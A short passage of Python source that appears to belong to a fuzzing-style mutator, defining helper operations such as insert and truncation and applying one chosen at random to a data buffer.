        data[place:place] = part

    def end_early() -> None:
        del data[at() :]

    operations: list[Callable[[], None]] = [flip, flip, insert, insert, cut, double, move, end_early]
    if data:
        rng.choice(operations)()
